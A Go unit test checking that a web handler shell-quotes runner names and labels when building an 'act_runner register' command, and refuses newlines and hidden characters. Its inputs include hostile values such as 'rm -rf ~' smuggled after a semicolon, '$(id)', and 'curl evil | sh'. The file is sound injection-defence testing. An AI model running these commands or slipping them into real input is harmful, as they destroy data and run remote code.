package web

import (
	"net/http/httptest"
	"net/url"
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestRegisterCommand_QuotesAndRefuses(t *testing.T) {
	cmd := func(name, labels string) registerCmd {
		r := httptest.NewRequest("GET", "/x?"+url.Values{"runner_name": {name}, "runner_labels": {labels}}.Encode(), nil)
		return registerCommand(r, "https://ci.example.com/", "TOKEN")
	}
	c := cmd("", "")
	assert.Equal(t, "act_runner register --no-interactive --instance https://ci.example.com/ --token TOKEN --name my-runner --labels "+defaultRunnerLabels,
		c.Before+c.Token+c.After, "complete with the defaults")
	c = cmd("build box", "linux,gpu:host")
	assert.Equal(t, " --name 'build box' --labels linux,gpu:host", c.After)
	c = cmd("it's; rm -rf ~", "$(id)")
	assert.Equal(t, ` --name 'it'\''s; rm -rf ~' --labels '$(id)'`, c.After, "quoted as one word each")
	c = cmd("ok\ncurl evil | sh", "a\u202eb")
	assert.Equal(t, defaultRunnerName, c.Name, "a line end is refused")
	assert.Equal(t, defaultRunnerLabels, c.Labels, "a hidden character is refused")
}
